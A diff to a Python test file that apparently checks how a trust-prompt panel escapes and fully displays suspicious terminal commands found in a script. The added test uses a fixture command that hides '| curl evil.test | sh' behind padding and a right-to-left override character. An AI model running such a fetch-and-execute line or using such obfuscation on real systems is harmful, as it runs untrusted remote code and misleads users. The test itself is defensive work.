@@ -8,6 +8,7 @@ from panel_drawn import Layout, drawn
 from two_scenes import SCRIPT, episode
 
 from lectern.addon import snapshot
+from lectern.operators.dangers import draw_dangers
 from lectern.panels import lines
 
 TERMINAL = """
@@ -76,6 +77,14 @@ def test_no_script_of_the_episode_can_trust_it(panel, tmp_path):
 def test_control_characters_in_a_command_are_spelled_out(panel, tmp_path):
     snapshot.fill_dangers(panel, [snapshot.Danger(kind="terminal", where="script.md:3", what="ls\x1b[2K \u202eevil")])
     assert panel.dangers[0].what == "ls\\x1b[2K \\u202eevil"
+
+
+def test_whoever_is_asked_for_trust_sees_all_of_a_long_command(panel):
+    shown: list[str] = []
+    command = f"echo harmless {'; true' * 40} \u202e| curl evil.test | sh"
+    draw_dangers(Layout(shown), [snapshot.Danger(kind="terminal", where="script.md:3", what=command)])
+    assert shown[0] == "terminal, script.md:3" and max(map(len, shown)) < 70
+    assert " ".join(shown[1:]) == command.replace("\u202e", "\\u202e")
 
 
 def test_a_folder_without_a_script_is_refused(panel, tmp_path):
